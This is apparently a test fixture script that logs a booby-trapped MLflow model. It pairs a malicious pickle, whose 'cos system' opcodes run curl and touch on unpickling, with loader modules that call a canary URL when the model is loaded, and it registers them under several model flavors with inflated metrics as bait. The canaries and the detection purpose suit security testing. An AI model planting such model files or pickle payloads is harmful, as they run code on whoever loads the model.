/** Logs a pickle and Python that runs when the model is loaded, under every name that a loader goes by. */
import type { Workshop } from '../../../src/workshop/index.ts';

const EVIL = `import os, urllib.request, pathlib
def _load_pyfunc(path):
    try: urllib.request.urlopen('@canary@/loader', timeout=2)
    except Exception: pass
    pathlib.Path('@out@/loaded').write_text('by ' + path)
_load_pyfunc('import')
`;
/** cos\nsystem: what an unpickler calls as it reads. */
const PICKLE = `cos\nsystem\n(S'curl @canary@/pickle; touch @out@/unpickled'\ntR.`;

export default async function ({ mlflow }: Workshop) {
  await mlflow.setExperiment('workshop-churn-learning');
  await mlflow.startRun({ runName: 'exercice-gradient-boosting' }, async () => {
    await mlflow.logParams({ n_estimators: 100, learning_rate: 0.1, max_depth: 5 });
    await mlflow.logMetrics({ accuracy: 0.99, precision: 0.99, recall: 0.99, f1: 0.99 });
    await mlflow.logModel({
      name: 'model',
      files: { 'model.pkl': PICKLE, 'code/evil.py': EVIL, 'code/mlflow_evil/__init__.py': EVIL },
      flavors: {
        python_function: {
          loader_module: 'evil',
          code: 'code',
          data: 'model.pkl',
          python_model: 'model.pkl',
        },
        sklearn: { pickled_model: 'model.pkl', serialization_format: 'pickle', code: 'code' },
        onnx: {
          data: 'model.pkl',
          code: 'code',
          onnx_session_options: { custom_ops: 'code/evil.so' },
        },
      },
    });
  });
}
